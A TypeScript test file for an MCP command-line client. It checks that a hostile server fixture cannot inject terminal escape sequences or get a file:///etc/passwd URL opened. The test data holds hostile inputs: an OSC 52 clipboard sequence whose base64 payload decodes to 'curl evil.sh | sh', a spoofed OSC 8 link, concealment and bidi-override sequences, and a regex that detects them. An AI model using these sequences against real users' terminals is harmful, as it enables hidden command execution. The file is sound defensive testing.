import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { HOSTILE } from './fixtures/hostile-server.mjs';
import { mcpkit } from './run.js';
import { HAS_SCRIPT, KEY, startInTerminal } from './terminal.js';

const HOSTILE_STDIO = [
  '--',
  process.execPath,
  fileURLToPath(new URL('fixtures/hostile-server.mjs', import.meta.url)),
];

// Everything a terminal acts on: C0 but line feed (tab is never sent by the fixture), DEL, C1, bidi.
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const scratch = mkdtempSync(join(tmpdir(), 'mcpkit-hostile-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** Where the first raw control character is, for a readable failure. */
function firstRaw(text: string): string | undefined {
  const at = text.search(RAW_CONTROL);
  return at === -1 ? undefined : JSON.stringify(text.slice(Math.max(0, at - 20), at + 20));
}

const COMMANDS = [
  ['info'],
  ['tools'],
  ['tools', '--long'],
  ['call', 'echo', '--log-level', 'debug'],
  ['call', 'fail'],
  ['call', 'ask'],
  ['resources'],
  ['read', 'hostile://r'],
  ['prompts'],
  ['get', 'evil'],
] as const;

describe('a hostile server cannot steer the terminal', () => {
  for (const command of COMMANDS) {
    it(`mcpkit ${command.join(' ')} shows its escape sequences as visible text`, async () => {
      const run = await mcpkit([...command, ...HOSTILE_STDIO]);
      const printed = run.stdout + run.stderr;
      expect(firstRaw(printed), printed).toBeUndefined();
      // What the server said is still there to read, escapes written out.
      expect(printed).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    });
  }

  it('the visible form of each kind: OSC 8, CSI, C1 CSI, a lone CR, a bidi override', async () => {
    const run = await mcpkit(['read', 'hostile://r', ...HOSTILE_STDIO]);
    expect(run.stdout).toBe(
      'A\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 \\x1b]8;;https://evil.example\\x1b\\click\\x1b]8;;\\x1b\\ ' +
        '\\x1b]0;pwned\\x07 \\x1b[2K\\x1b[1A \\x1b[8mhidden\\x1b[0m \\x07 \\x9b2J safe\\x0dEVIL \\u202eevil\\u202c Z\n',
    );
  });

  it('--json keeps the exact values, with no raw control character in the output', async () => {
    const run = await mcpkit(['call', 'echo', '--json', ...HOSTILE_STDIO]);
    expect(firstRaw(run.stdout), run.stdout).toBeUndefined();
    const result = JSON.parse(run.stdout) as { content: { text?: string; resource?: { text: string } }[] };
    expect(result.content[0]!.text).toBe(HOSTILE);
    expect(result.content[1]!.resource!.text).toBe(HOSTILE);
    const listed = await mcpkit(['tools', '--json', ...HOSTILE_STDIO]);
    const { tools } = JSON.parse(listed.stdout) as { tools: { name: string; description: string }[] };
    expect(tools[0]).toMatchObject({ name: `evil${HOSTILE}`, description: HOSTILE });
    expect(firstRaw(listed.stdout)).toBeUndefined();
  });

  it('a URL elicitation to a file: URL is printed, not opened, and the refusal names it', async () => {
    const opened = join(scratch, 'opened.txt');
    const browser = join(scratch, 'browser.sh');
    writeFileSync(browser, `#!/bin/sh\nprintf '%s' "$1" > '${opened}'\n`, { mode: 0o755 });
    const run = await mcpkit(['call', 'open_file', '--open', ...HOSTILE_STDIO], '', { BROWSER: browser });
    // The opener is detached: give a wrongly started one time to write.
    await new Promise((resolve) => setTimeout(resolve, 500));
    expect(existsSync(opened) ? `opened ${readFileSync(opened, 'utf8')}` : 'not opened').toBe('not opened');
    expect(run.stderr).toMatch(/^ {2}file:\/\/\/etc\/passwd$/m);
    expect(run.stderr).toContain('not opening file:///etc/passwd in a browser: only https: URLs');
    expect(firstRaw(run.stdout + run.stderr)).toBeUndefined();
  });
});

describe.skipIf(!HAS_SCRIPT)('a hostile server in the shell', () => {
  it("shows the server's words made visible: its name, lists, results, questions and form", async () => {
    const term = startInTerminal(['shell', ...HOSTILE_STDIO], { MCPKIT_CONFIG_DIR: scratch });
    await term.waitFor(/mcpkit> $/);
    for (const line of ['info', 'tools --long', 'call echo', 'read hostile://r', 'get evil']) {
      term.type(`${line}${KEY.enter}`);
      await term.waitFor(/mcpkit> $/);
    }
    term.type(`call ask${KEY.enter}`);
    await term.waitFor(/\? A\\x1b\]52/);
    term.type(`ada${KEY.enter}`);
    await term.waitFor(/Send these answers\?/);
    term.type(KEY.enter);
    await term.waitFor(/mcpkit> $/);
    term.type(`exit${KEY.enter}`);
    expect((await term.ended).code).toBe(0);
    const raw = term.raw();
    // readline and the prompt library draw with CSI sequences of their own; none of the server's
    // OSC sequences, BEL, concealed text, C1 controls or bidi overrides reach the terminal.
    // biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what it looks for
    expect(raw.match(/\x1b\]|\x07|\x1b\[8m|[\u0080-\u009f]|[\u202a-\u202e]/g)).toBeNull();
    expect(raw).toContain('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(raw).toContain('Connected to hostileA\\x1b]52');
  });
});
